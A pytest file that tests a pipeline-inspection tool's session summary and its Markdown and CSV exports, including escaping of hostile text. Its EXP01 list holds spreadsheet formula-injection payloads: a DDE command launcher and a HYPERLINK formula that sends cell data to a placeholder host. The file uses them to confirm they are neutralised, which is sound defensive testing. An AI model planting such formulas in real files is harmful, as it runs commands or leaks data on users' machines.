"""session_summary on a hand-built store, and its Markdown and CSV exports (EXP-01, EXP-02).

Every test taking `services` runs twice: on a real SQLite file and on a fresh PostgreSQL schema.
"""
from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import date, datetime, timedelta, timezone

import pytest
from sqlalchemy import text

from inspector.exports import csv_columns, neutralise, session_csv, session_markdown
from inspector.inspect import session_summary
from inspector.storage.inspections import Inspections

TODAY = date(2026, 12, 3)  # same day as tests/conftest.py (tests/ is not a package)
NOW = datetime(2026, 12, 3, 9, 0, tzinfo=timezone.utc)
BEFORE = NOW - timedelta(days=10)
HOSTILE = "Beta | pipe\nline"
EXP01 = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
         '=HYPERLINK("http://x/?"&A1)']


def at(minutes: int) -> datetime:
    return NOW + timedelta(minutes=minutes)


def deal(id_: int, name: str, stage: str, category: str, amount_minor: int, currency: str = "USD",
         **over) -> dict:
    row = {"id": id_, "source": "test", "external_id": f"T-{id_}", "name": name,
           "account": f"Account {id_}", "owner": f"Rep {id_}", "team": "Team A", "manager": "Mgr A",
           "stage": stage, "crm_stage": stage, "status": "open", "amount_minor": amount_minor,
           "currency": currency, "close_date": date(2026, 12, 20), "forecast_category": category,
           "next_step": "Call", "next_step_date": date(2026, 12, 8), "created_on": date(2026, 9, 1),
           "stage_entered_on": date(2026, 11, 25), "business_problem": "", "buyer_role": "",
           "last_activity_at": NOW - timedelta(days=2), "last_progress_at": None}
    row.update(over)
    return row


def build_store(services):
    """Five deals with known decisions; returns (session id, Inspections, inspection ids by deal)."""
    store = services.store
    store.bulk_insert("deal", [
        deal(1, "Alpha", "solution_fit", "commit", 15_000_000),
        deal(2, HOSTILE, "commercial_review", "best_case", 8_000_000, "EUR"),
        deal(3, "Gamma", "discovery", "pipeline", -120_000, business_problem="Invoices wrong",
             buyer_role="CFO"),
        deal(4, "Delta", "commit", "commit", 5_000_000),
        deal(5, "Epsilon", "qualification", "pipeline", 1_000_000),
    ])
    store.bulk_insert("activity", [
        {"deal_id": 5, "kind": k, "occurred_at": NOW - timedelta(days=d), "summary": "Follow-up",
         "who": "Rep 5", "is_progress": False, "progress_type": None}
        for k, d in (("call", 3), ("email", 8), ("meeting", 12))])
    store.bulk_insert("risk", [
        {"deal_id": 4, "type": "timeline_risk", "severity": "high", "owner": "Rep 4",
         "mitigation": "", "status": "open", "created_at": BEFORE},
        {"deal_id": 5, "type": "pricing_discount", "severity": "low", "owner": "Rep 5",
         "mitigation": "", "status": "closed", "created_at": BEFORE},
    ])
    insp = Inspections(store)
    sid = insp.start_session(manager="Mgr A", team="Team A", queue=[1, 2, 3, 4, 5],
                             week_of=date(2026, 11, 30), now=NOW).id
    ids = {d: insp.state(sid, d).id for d in range(1, 6)}
    m = "Mgr A"
    insp.save_answer(ids[1], "problem", "Forecast misses", "claimed", expected=None, actor=m, now=at(1))
    insp.save_decisions(ids[1], {"stage_verdict": (None, "overstated"), "supported_stage": (None, "qualification"),
                                 "forecast_call": (None, "best_case"), "notes": ("", "Needs a champion")},
                        actor=m, now=at(2))
    insp.save_answer(ids[2], "economic_buyer", "Anna | CFO\nmet twice", "confirmed", expected=None,
                     actor=m, now=at(3))
    insp.save_decisions(ids[2], {"stage_verdict": (None, "overstated"), "supported_stage": (None, "discovery"),
                                 "forecast_call": (None, "commit"), "commit_criteria_met": (None, False),
                                 "commit_exception": ("", "CFO verbal yes | signed by Friday"),
                                 "close_date_verdict": (None, "not_credible"),
                                 "proposed_close_date": (None, date(2027, 2, 15))}, actor=m, now=at(4))
    insp.set_status(ids[3], "skipped", "Rep on leave", expected="pending", actor=m, now=at(5))
    insp.save_decisions(ids[5], {"stage_verdict": (None, "supported"), "forecast_call": (None, "pipeline")},
                        actor=m, now=at(6))
    insp.add_risk(2, type="security_review", severity="high", owner="Rep 2", due_date=date(2026, 12, 15),
                  mitigation="Pack sent", actor=m, now=at(7), session_id=sid, inspection_id=ids[2])
    r = insp.add_risk(1, type="competitive_pressure", severity="medium", owner="Rep 1", due_date=None,
                      mitigation="", actor=m, now=at(8), session_id=sid)
    insp.update_risk(r, {"status": ("open", "closed")}, actor=m, now=at(9), session_id=sid)
    return sid, insp, ids


@pytest.fixture
def built(services, playbook):
    sid, insp, ids = build_store(services)
    return services, insp, session_summary(services.store, insp, playbook, sid, TODAY)


def test_summary_numbers_are_exact(built):
    _services, insp, s = built
    assert (s.inspected, s.skipped, s.pending) == (3, 1, 1)
    assert s.verdicts == Counter({"overstated": 2, "supported": 1})
    assert s.overstated_steps == 2 + 2  # solution_fit -> qualification, commercial_review -> discovery
    assert s.rep_commit == 15_000_000 + 5_000_000
    assert s.manager_commit == 8_000_000 + 5_000_000  # deal 4 keeps the rep's commit
    assert s.rep_best_case == 8_000_000
    assert s.manager_best_case == 15_000_000
    assert s.category_changes == [(1, "Alpha", "commit", "best_case"), (2, HOSTILE, "best_case", "commit")]
    assert s.commit_exceptions == [(2, HOSTILE, "CFO verbal yes | signed by Friday")]
    assert s.not_credible == [(2, HOSTILE, date(2027, 2, 15))]
    assert [d for d, _n in s.missing_evidence] == [1, 2, 4]  # 3 has its evidence, 5 is supported
    assert s.no_progress == [(5, "Epsilon")]
    assert s.new_risks == Counter({"security_review": 1, "competitive_pressure": 1})
    assert s.open_risks == Counter({"security_review": 1, "timeline_risk": 1})
    report = insp.chain()
    assert report.ok and (s.event_count, s.chain_head) == (report.count, report.head)
    assert s.event_count == 10  # started, 2 + 2 saves on deals 1-2, skip, deal 5, 3 risk events
    by_deal = {r["deal_id"]: r for r in s.rows}
    assert [r["deal_id"] for r in s.rows] == [1, 2, 3, 4, 5]
    assert by_deal[2]["answers"] == {"economic_buyer": {"text": "Anna | CFO\nmet twice", "evidence": "confirmed"}}
    assert by_deal[3]["skip_reason"] == "Rep on leave" and by_deal[3]["amount_minor"] == -120_000
    assert by_deal[2]["open_risks"] == 1 and by_deal[4]["open_risks"] == 1 and by_deal[5]["open_risks"] == 0
    assert by_deal[2]["commit_criteria_met"] is False and by_deal[1]["commit_criteria_met"] == ""


def test_markdown_report_has_headline_exception_and_anchor(built, playbook):
    _services, _insp, s = built
    md = session_markdown(s, playbook)
    assert md.startswith("# Pipeline inspection: Team A\n")
    assert "**Manager:** Mgr A" in md and "**Week of:** 2026-11-30" in md
    assert "**Status:** open" in md and "**Started:** 2026-12-03 09:00 UTC" in md
    assert "5 in the session: 3 inspected, 1 skipped, 1 pending" in md
    assert "1 supported, 2 overstated (4 stages overstated in total), 0 understated" in md
    assert "**Commit:** manager $130,000[^currencies] vs rep $200,000[^currencies]" in md
    assert "**Best case:** manager $150,000[^currencies] vs rep $80,000[^currencies]" in md
    footnote = next(line for line in md.splitlines() if line.startswith("[^currencies]:"))
    assert "USD, EUR" in footnote and "EUR: commit manager €80,000 vs rep €0" in footnote
    assert "CFO verbal yes \\| signed by Friday" in md  # the exception and its reason
    assert "| Beta \\| pipe<br>line | 2027-02-15 |" in md  # not credible, with the proposal
    assert "| Security review | 1 | 1 |" in md and "| Timeline risk | 0 | 1 |" in md
    assert "| Competitive pressure | 1 | 0 |" in md
    assert "| Who is the economic buyer? | Anna \\| CFO<br>met twice | confirmed |" in md
    assert "| Status | skipped (Rep on leave) |" in md
    assert "### 2. Beta | pipe line (#2)" in md
    assert md.rstrip().endswith(f"Event log: {s.event_count} events, chain head {s.chain_head}")


def unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


def tables(md: str) -> list[list[str]]:
    out, cur = [], []
    for line in md.split("\n"):
        if line.startswith("|"):
            cur.append(line)
        elif cur:
            out.append(cur)
            cur = []
    return out + ([cur] if cur else [])


@pytest.mark.parametrize("name", [HOSTILE, "a\\|b", "ends with backslash \\", "x\r\ny\rz", "|||"])
def test_markdown_tables_survive_hostile_text(services, playbook, name):
    sid, insp, ids = build_store(services)
    with services.store.engine.begin() as conn:
        conn.execute(text("UPDATE deal SET name = :n, account = :n WHERE id = 1"), {"n": name})
    insp.save_decisions(ids[1], {"notes": ("Needs a champion", name), "commit_exception": ("", name),
                                 "forecast_call": ("best_case", "commit")}, actor="Mgr A", now=at(20))
    insp.save_answer(ids[1], "problem", name, "confirmed", expected=None, actor="Mgr A", now=at(21))
    md = session_markdown(session_summary(services.store, insp, playbook, sid, TODAY), playbook)
    found = tables(md)
    assert len(found) >= 10
    for table in found:
        assert re.fullmatch(r"\|(---\|)+", table[1]), table[:2]
        widths = {unescaped_pipes(line) for line in table}
        assert len(widths) == 1, table
    # every line is either part of the structure or starts a known block: no leaked fragments
    leaked = [line for line in md.split("\n") if line.startswith(("y", "z", "line"))]
    assert leaked == []


def read_csv(text_: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_, newline="")))


def test_csv_parses_back_to_the_summary(built, playbook):
    _services, _insp, s = built
    out = session_csv(s, playbook)
    rows = read_csv(out)
    assert list(rows[0]) == csv_columns(s, playbook)
    assert [c for c in rows[0] if c.startswith("q_")][:4] == ["q_problem", "q_problem_evidence",
                                                              "q_why_now", "q_why_now_evidence"]
    assert len(rows) == 5
    sid = str(s.session.id)
    for r, src in zip(rows, s.rows):
        assert r["session_id"] == sid and r["deal_id"] == str(src["deal_id"])
        assert r["deal"] == src["deal"] and r["rep"] == src["rep"] and r["status"] == src["status"]
        assert r["findings"] == ";".join(src["findings"])
        assert r["chain_head"] == s.chain_head and r["event_count"] == str(s.event_count)
    one, two, three = rows[0], rows[1], rows[2]
    assert (one["amount"], one["currency"], one["stage"], one["stage_verdict"], one["supported_stage"]) == (
        "150000.00", "USD", "solution_fit", "overstated", "qualification")
    assert (one["rep_category"], one["forecast_call"], one["notes"]) == ("commit", "best_case", "Needs a champion")
    assert (one["q_problem"], one["q_problem_evidence"], one["q_why_now"]) == ("Forecast misses", "claimed", "")
    assert two["deal"] == HOSTILE and two["amount"] == "80000.00" and two["currency"] == "EUR"
    assert (two["commit_criteria_met"], two["commit_exception"]) == ("no", "CFO verbal yes | signed by Friday")
    assert (two["close_date_verdict"], two["proposed_close_date"]) == ("not_credible", "2027-02-15")
    assert two["q_economic_buyer"] == "Anna | CFO\nmet twice" and two["open_risks"] == "1"
    assert (three["status"], three["skip_reason"], three["amount"]) == ("skipped", "Rep on leave", "-1200.00")
    assert three["close_date"] == "2026-12-20" and three["next_step_date"] == "2026-12-08"
    assert "missing_evidence" in rows[3]["findings"].split(";")
    # without a playbook the question columns are the questions answered, sorted
    bare = read_csv(session_csv(s))
    assert [c for c in bare[0] if c.startswith("q_")] == ["q_economic_buyer", "q_economic_buyer_evidence",
                                                          "q_problem", "q_problem_evidence"]


def test_neutralise():
    for cell in EXP01:
        assert neutralise(cell) == "'" + cell
    for cell in ("", "Acme", "1200.50", "'=already", " =1", "a=b", "\n=1"):
        assert neutralise(cell) == cell


def test_csv_formula_injection_is_neutralised_in_text_columns(services, playbook):
    """EXP-01 / EXP-02: formula starters get a leading quote; numbers stay numbers."""
    store = services.store
    store.bulk_insert("deal", [
        deal(i + 1, payload, "discovery", "pipeline", -120_000 if i == 0 else 50_000, account=payload,
             owner=payload, next_step=payload)
        for i, payload in enumerate(EXP01)])
    insp = Inspections(store)
    sid = insp.start_session(manager="Mgr A", team="Team A", queue=list(range(1, len(EXP01) + 1)),
                             week_of=date(2026, 11, 30), now=NOW).id
    for i, payload in enumerate(EXP01):
        st = insp.state(sid, i + 1)
        insp.save_answer(st.id, "problem", payload, "claimed", expected=None, actor="Mgr A", now=at(i))
        insp.save_decisions(st.id, {"notes": ("", payload), "commit_exception": ("", payload),
                                    "next_step": (payload, "-" + payload)}, actor="Mgr A", now=at(i))
        insp.set_status(st.id, "skipped", payload, expected=None, actor="Mgr A", now=at(i))
    summary = session_summary(store, insp, playbook, sid, TODAY)
    rows = read_csv(session_csv(summary, playbook))
    numeric = {"session_id", "deal_id", "amount", "open_risks", "event_count"}
    for r, payload in zip(rows, EXP01):
        for col in ("deal", "account", "rep", "notes", "commit_exception", "skip_reason", "q_problem"):
            assert r[col] == "'" + payload, (col, r[col])
        assert r["next_step"] == "'-" + payload
        for col, value in r.items():
            if col not in numeric:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (col, value)
    assert rows[0]["amount"] == "-1200.00"  # EXP-02: a negative number is not a formula
    assert [r["amount"] for r in rows[1:]] == ["500.00"] * (len(EXP01) - 1)
    assert rows[0]["deal_id"] == "1" and rows[0]["event_count"] == str(summary.event_count)


def test_confirmed_answers_count_as_evidence_in_the_summary(services, playbook):
    store = services.store
    store.bulk_insert("deal", [deal(1, "Alpha", "discovery", "pipeline", 1_000_000)])
    insp = Inspections(store)
    sid = insp.start_session(manager="Mgr A", team="Team A", queue=[1], week_of=date(2026, 11, 30),
                             now=NOW).id
    st = insp.state(sid, 1)
    # discovery needs business_problem and buyer_context; both confirmed by answers
    insp.save_answer(st.id, "problem", "Invoices are wrong", "confirmed", expected=None, actor="M", now=at(1))
    insp.save_answer(st.id, "users", "Finance ops team", "confirmed", expected=None, actor="M", now=at(2))
    from inspector.inspect import load_deal_inspection

    screen = load_deal_inspection(store, insp, playbook, sid, 1, TODAY)
    assert "missing_evidence" not in {f.code for f in screen.findings}  # what the Inspect screen shows
    summary = session_summary(store, insp, playbook, sid, TODAY)
    assert summary.missing_evidence == []
